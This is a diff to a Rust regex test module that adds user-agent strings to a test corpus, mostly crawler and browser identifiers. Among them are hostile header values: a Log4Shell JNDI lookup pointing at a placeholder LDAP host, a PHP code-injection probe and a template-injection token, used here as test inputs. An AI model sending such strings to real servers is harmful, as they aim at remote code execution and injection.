@@ -332,6 +332,8 @@ mod pcre_tests {
             "checker", "checkout", "monitor", "preview", "archiver", "indexer", "harvester", "validator", "HeadlessChrome", "PhantomJS", "+http://x.example", "+ https:",
             "+www.", "http://", "https://", "www.", "a@b.example", "x@y", "AppleWebKit/537.36", "Gecko/2010", "Chrome/120", "Safari/537", "KHTML", "Trident/7.0",
             "python-requests", "Google-HTTP-Java-Client", "curl", "wget", "urllib", "fetch", "(", ")", ";", "Cubot", "IDbot553", "slurp",
+            "Nutch-1.7", "${jndi:ldap:", "<?=", "<?PHP", "{{.", "+ops@x.example", "Hakai/2.0", "Zeus", "v2", "/1", "iPhone15", "AppleTV", "WAP", "mozilla/5.0",
+            "Mozilla/5.0 (compatible)", "Mozilla/5.0 (compatible; Kaupr/1.0)", "(Compatible; ", "nook", "x:y%z",
         ];
         let mut tried = 0;
         for s in strings(&vocabulary, 60_000).into_iter().chain(
@@ -340,6 +342,24 @@ mod pcre_tests {
                 b"Mozilla/5.0 (Linux; Android 5.1; S550 Pro Build/LMY47D; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/74.0 Mobile Safari/537.36 Instagram 94.0.0.22.116 Android (22/5.1; 320dpi; 720x1280; CUBOT; S550 Pro)",
                 b"Mozilla/5.0 (compatible; Rivetbot/1.0; +https://example.net/bot)",
                 b"SentiBot www.sentibot.eu (compatible with Googlebot)",
+                b"Hakai/2.0",
+                b"Hakai/2.0\n",
+                b"Hakai/v2.0",
+                b"My User Agent 1.0",
+                b"iPhone15ProMax",
+                b"Apple-iPad2C7/1002.329",
+                b"Mozilla/5.0",
+                b"Mozilla/5.0 Jorgee",
+                b"Mozilla/5.0 (compatible)",
+                b"Mozilla/5.0 (compatible;)",
+                b"Mozilla/5.0 (compatible; Crusader/1.0)",
+                b"Mozilla/5.0 (compatible; Crusader/1.0)\n",
+                b"Mozilla/5.0 (compatible; Crusader/x)",
+                b"${jndi:ldap://x.example/a}",
+                b"Mozilliqa\"<?=print(1);?>\"",
+                b"{{.custom_user_agent}}",
+                b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0 Safari/537.36; +collection@infegy.com",
+                b"CB/Nutch-1.7",
             ]
             .map(|s| s.to_vec()),
         ) {
